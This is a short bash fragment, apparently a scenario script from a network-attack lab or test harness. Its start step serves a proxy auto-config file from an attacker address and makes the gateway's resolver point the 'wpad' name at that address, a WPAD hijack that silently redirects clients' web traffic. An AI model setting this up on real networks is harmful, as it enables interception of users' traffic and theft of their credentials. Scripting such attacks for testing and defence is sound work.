# shellcheck shell=bash
# The router's resolver gives the attacker's address for the name "wpad": no lease, no frame tells of it.
start() { pac $ATT_IP:8080; att_http "$S/run/pac"; sleep 0.5; mark; gw_dns "--address=/wpad.lan/$ATT_IP"; }
stop() { gw_dns; }
